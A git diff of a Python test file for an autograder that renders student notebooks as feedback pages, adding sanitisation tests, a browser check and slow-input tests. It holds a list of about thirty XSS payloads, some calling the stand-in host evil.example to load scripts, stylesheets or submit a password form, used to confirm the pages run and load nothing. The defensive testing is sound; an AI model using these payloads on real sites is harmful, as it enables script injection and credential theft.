@@ -4,6 +4,8 @@ import html
 import re
 import subprocess
 import sys
+import time
+from html.parser import HTMLParser
 from pathlib import Path
 
 import nbformat
@@ -11,11 +13,18 @@ import pytest
 from click.testing import CliRunner
 from nbformat.v4 import new_output
 
-from autograder import build
+from autograder import build, course_folder, statuses
 from autograder.cli import main
-from autograder.harmless_outputs import HarmlessOutputs, harmless_html, markdown2html
+from autograder.feedback_page import FeedbackExporter
+from autograder.harmless_outputs import (
+    HarmlessOutputs,
+    harmless_html,
+    markdown2html,
+    plain_text,
+)
 from autograder.hide_hidden_tests import HideHiddenTests
 from tests import tiny_course
+from tests.browser.lab import browser_page
 from tests.tiny_course import LESSON, NAME, cell_of, submission
 
 pytestmark = [
@@ -73,6 +82,26 @@ def written(course, request):
     return pages(course)
 
 
+class Tags(HTMLParser):
+    """The names of a page's tags, and its attributes."""
+
+    def __init__(self, text):
+        super().__init__()
+        self.names, self.attributes = set(), set()
+        self.feed(text)
+
+    def handle_starttag(self, tag, attributes):
+        self.names.add(tag)
+        self.attributes |= {(name, value or "") for name, value in attributes}
+
+
+def words_of(page):
+    """What a reader sees, word by word."""
+    return " ".join(
+        html.unescape(re.sub("<style>.*?</style>|<[^>]*>", " ", page, flags=re.S)).split()
+    )
+
+
 def text_of(page):
     """What a reader sees of the page, and also what stands in its tags."""
     return html.unescape(re.sub(r"</?span[^>]*>", "", page))
@@ -86,16 +115,38 @@ def test_hidden_tests_are_not_in_the_pages(written):
 
 
 def test_marks_and_messages_are_in_the_pages(written):
-    assert "(Score: 2.0 / 5.0)" in written["ada"]
-    assert "secret_of_double" in written["ada"]  # the message of the test that failed
+    assert "2 of 5 points" in words_of(written["ada"])
+    assert "1 of 2 exercises solved" in words_of(written["ada"])
+    assert "add ✓ solved 2 of 2" in words_of(written["ada"])
+    # The message of the test that failed.
+    assert "double ✗ not right yet 0 of 3 secret_of_double" in words_of(written["ada"])
     assert "undefined_name" in written["nasty"]
+
+
+def test_the_page_runs_nothing_and_loads_nothing(written):
+    for page in written.values():
+        tags = Tags(page)
+        assert not tags.names & {"script", "link", "iframe", "object", "embed", "form", "base"}
+        assert not [name for name, _ in tags.attributes if name.startswith("on")]
+        loaded = [value for name, value in tags.attributes if name in ("src", "srcset", "data")]
+        assert all(re.match("data:image/(png|jpeg|gif);base64,", value) for value in loaded)
+        assert "url(" not in "".join(re.findall("<style>.*?</style>", page, flags=re.S))
+        policy = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
+        assert ("content", policy) in tags.attributes
+
+
+def test_links_of_the_summary_lead_to_the_answers(written):
+    tags = Tags(written["ada"])
+    targets = {value for name, value in tags.attributes if name == "id"}
+    links = {value for name, value in tags.attributes if name == "href" and value[0] == "#"}
+    assert {"#answer-add", "#answer-double", "#top"} <= links
+    assert {link[1:] for link in links} <= targets
 
 
 def test_nothing_of_a_student_is_executed(written):
     page = written["nasty"]
-    assert "evil" in page  # shown, as text
-    scripts = re.findall(r"<script.*?</script>", page, flags=re.S)
-    assert not [script for script in scripts if "evil" in script]
+    assert "print(evil)" in text_of(page)
+    assert "&lt;script&gt;" in page  # printed by the student, shown as text
     assert not re.search(r"<[^>]*onerror", page)
     assert "<svg" not in page
 
@@ -153,6 +204,184 @@ def test_pictures_stay_and_other_forms_go():
     assert list(second.data) == ["text/plain"]
 
 
+# In prose, in HTML outputs and in text: whatever it is, a browser shows it and does nothing.
+ATTACKS = [
+    "<script>evil()</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<scr<script>ipt>evil()</scr</script>ipt>",
+    "<img src=x onerror=evil()>",
+    "<img/src=`x`/onerror=evil()>",
+    '<details open ontoggle="evil()"><summary>x</summary></details>',
+    "<svg onload=evil()><animate onbegin=evil() attributeName=x></svg>",
+    "<svg><use href='data:image/svg+xml,evil'/></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=evil()></style></table></mtext></math>",
+    "<math href=javascript:evil()>x</math>",
+    "<iframe srcdoc='<script>evil()</script>'></iframe>",
+    "<object data='data:text/html,evil'></object><embed src='//evil.example'>",
+    "<form action=//evil.example><input name=password autofocus onfocus=evil()></form>",
+    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<style>@import '//evil.example'; .status { display: none }</style>",
+    "<p style='position:fixed;background:url(//evil.example)'>covers the page</p>",
+    "<noscript><p title='</noscript><img src=x onerror=evil()>'></noscript>",
+    "<!--><img src=x onerror=evil()>-->",
+    "</pre></div></main><script>evil()</script>",
+    "<a href='java\nscript:evil()'>x</a>",
+    "<a href='data:text/html;base64,ZXZpbA=='>x</a>",
+    "[x](javascript:evil%28%29)",
+    "[x](vbscript:evil) ![y](javascript:evil)",
+    "![seen](https://evil.example/seen.png)",
+    "$\\href{javascript:evil()}{x}$",
+    "$\\text{</math><script>evil()</script>}$",
+    "$$\\unicode{x3c}img src=x onerror=evil()\\unicode{x3e}$$",
+    "\\begin{aligned}<img src=x onerror=evil()>\\end{aligned}",
+    "```mermaid\n</pre><script>evil()</script>\n```",
+    "```html\n</div><script>evil()</script>\n```",
+    "<p class='status good' id='top'>10 of 10 points</p>",
+    "\x1b]8;;javascript:evil()\x07click\x1b]8;;\x07",
+    "\x1b[31m</span><script>evil()</script>\x1b[0m",
+]
+
+
+def everywhere(attack):
+    """A notebook with the attack in each place where a student can put it."""
+    data = {"text/html": attack, "text/plain": attack, "text/markdown": attack}
+    svg = {"image/svg+xml": attack, "text/latex": attack, "application/javascript": attack}
+    cell = nbformat.v4.new_code_cell(attack)
+    cell.outputs = [
+        new_output("stream", text=attack),
+        new_output("display_data", data),
+        new_output("display_data", svg | {"text/plain": attack}),
+        new_output("display_data", {"image/png": attack, "text/plain": attack}),
+        new_output("execute_result", {"text/plain": attack}),
+        new_output("error", ename=attack, evalue=attack, traceback=[attack]),
+    ]
+    return [nbformat.v4.new_markdown_cell(attack), cell]
+
+
+@pytest.fixture(scope="module")
+def attacked_page(course):
+    """A page as the exporter writes it, with all attacks on it."""
+    notebook = nbformat.v4.new_notebook(
+        cells=[cell for attack in ATTACKS for cell in everywhere(attack)]
+    )
+    config = course_folder.find(course).config()
+    exporter = FeedbackExporter(config=config)
+    row = {
+        "exercise": ATTACKS[0],
+        "status": statuses.status("failed")._asdict(),
+        "comment": " ".join(ATTACKS),
+        **dict.fromkeys(("headline", "example", "hint", "place"), " ".join(ATTACKS)),
+        **{"score": 0, "points": 1, "by_hand": False},
+    }
+    page = {"title": ATTACKS[0], "rows": [row], "comments": {}, "solved": 0, "style": ""}
+    marks = {"student": ATTACKS[0], "assignment": LESSON, "notebook": "sums", "late_penalty": 0}
+    resources = {
+        "page": page | {"trouble": None},
+        "nbgrader": marks | {"score": 0, "max_score": 1},
+    }
+    return exporter.from_notebook_node(notebook, resources)[0]
+
+
+def test_no_attack_gets_onto_the_page_as_markup(attacked_page):
+    tags = Tags(attacked_page)
+    known = {"html", "head", "meta", "title", "style", "body", "header", "main"}
+    forbidden = {"script", "svg", "iframe", "object", "embed", "form", "input", "base", "link"}
+    forbidden |= {"mglyph", "noscript", "animate", "use"}
+    assert known <= tags.names
+    assert not tags.names & forbidden
+    names = {name for name, _ in tags.attributes}
+    assert not [name for name in names if name.startswith("on")]
+    assert "srcdoc" not in names
+    for name, value in tags.attributes:
+        if name in ("href", "src"):
+            assert re.match(r"#|data:image/png;base64,|$", value), (name, value)
+        if name == "style":
+            assert re.fullmatch(r"(width|color|background-color): [\w.%(), ]*;?", value), value
+        if name == "http-equiv":
+            assert value == "Content-Security-Policy"
+    assert ("id", "top") in tags.attributes
+    assert attacked_page.count('id="top"') == 1
+    assert "\x1b" not in attacked_page.partition("as it was graded")[2]
+
+
+def test_no_attack_does_anything_in_a_browser(attacked_page, chromium, tmp_path):
+    """Even without the policy that forbids scripts."""
+    path = tmp_path / "attacked.html"
+    path.write_text(attacked_page.replace("Content-Security-Policy", "x-off"), encoding="utf-8")
+    with browser_page(chromium) as page:
+        requests, said = [], []
+        page.on("request", lambda request: requests.append(request.url))
+        page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
+        page.add_init_script("window.evil = () => { window.wasEvil = true }")
+        page.goto(path.as_uri())
+        page.wait_for_timeout(300)
+        assert not page.evaluate("window.wasEvil === true")
+        assert [url for url in requests if not url.startswith("data:")] == [path.as_uri()]
+        assert not said
+        assert page.locator("math").count() >= 2
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("10%\r50%\r100%\n", "100%\n"),
+        ("windows\r\nline", "windows\nline"),
+        ("\x1b[1mbold\x1b[0m", "\x1b[1mbold\x1b[0m"),
+        ("\x1b[2J\x1b[1;1Hgone\x07\x08", "gone"),
+        ("\x1b]0;title\x07rest", "rest"),
+    ],
+)
+def test_text_is_what_a_terminal_shows_in_the_end(text, shown):
+    assert plain_text(text) == shown
+
+
+def test_long_outputs_lose_their_middle():
+    text = plain_text("a" * 1_000_000 + "the end")
+    assert len(text) < 21_000
+    assert text.endswith("the end")
+    assert "980,007 characters are left out here" in text
+
+
+@pytest.mark.parametrize(
+    "text", ["> " * 9_000 + "x", "\\begin{a}" * 1_000, "[" * 15_000, "*a_" * 3_000, "x" * 10**6]
+)
+def test_prose_that_is_made_to_take_long_does_not(text):
+    started = time.process_time()
+    markdown2html(text)
+    assert time.process_time() - started < 10
+
+
+@pytest.mark.parametrize(
+    "text", ["<b>" * 10**6, "<b>" * 30_000, "<div>" * 5_000, "<style " * 14_000]
+)
+def test_html_that_is_made_to_take_long_does_not(text):
+    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("")])
+    notebook.cells[0].outputs = [new_output("display_data", {"text/html": text})]
+    started = time.process_time()
+    HarmlessOutputs().preprocess(notebook, {})
+    assert time.process_time() - started < 10
+
+
+def test_formulas_are_shown_without_a_script():
+    shown = markdown2html("with $a < b$ and\n\n$$\\frac{\\sum_i x_i}{n}$$")
+    assert "<mi>a</mi><mo>&lt;</mo><mi>b</mi>" in shown
+    assert '<math display="block">' in shown
+    assert "<mfrac>" in shown
+    assert markdown2html("$\\def\\a{x}\\a$") == "<p><code>\\def\\a{x}\\a</code></p>\n"
+
+
+def test_every_formula_of_the_lessons_is_converted(root):
+    formulas = 0
+    for path in (root / "source").glob("*/*.ipynb"):
+        for cell in nbformat.read(path, as_version=4).cells:
+            if cell.cell_type == "markdown":
+                shown = markdown2html(cell.source)
+                formulas += shown.count("<math")
+                assert not re.search(r"\$\S|<code>[^<]*\\[a-z]", shown), (path, cell.source)
+    assert formulas > 5
+
+
 @pytest.mark.parametrize(
     ("text", "kept"),
     [
@@ -162,13 +391,17 @@ def test_pictures_stay_and_other_forms_go():
         ("<b onclick='evil()'>x</b>", "<b>x</b>"),
         ('<img src="https://example.org/seen.png">', "<img>"),
         ('<img src="//example.org/seen.png">', "<img>"),
+        ('<img src="seen.png">', "<img>"),
+        ('<a href="seen.html">x</a>', "<a>x</a>"),
         ('<img src="data:image/svg+xml;base64,iVBORw0K">', "<img>"),
         ('<a href="data:text/html,evil">x</a>', "<a>x</a>"),
         ('<iframe src="https://example.org"></iframe>', ""),
     ],
 )
 def test_html_outputs_are_cleaned(text, kept):
-    cleaned = harmless_html(text).replace("<tbody>", "").replace("</tbody>", "")
+    cleaned = harmless_html(text)
+    for added in ("<tbody>", "</tbody>", ' rel="noopener noreferrer"'):
+        cleaned = cleaned.replace(added, "")
     assert cleaned == (text if kept is True else kept)
 
 
@@ -186,6 +419,6 @@ def test_markdown_keeps_what_prose_needs():
         "# Title\n\n`a < b` and $x < y$\n\n<details><summary>Hint</summary>yes</details>\n\n"
         "[bad](javascript:evil())\n"
     )
-    assert "<h1" in shown
+    assert "<h1>Title</h1>" in shown
     assert "<details><summary>Hint</summary>" in shown
     assert "javascript:" not in re.sub(r">[^<]*<", "><", shown)
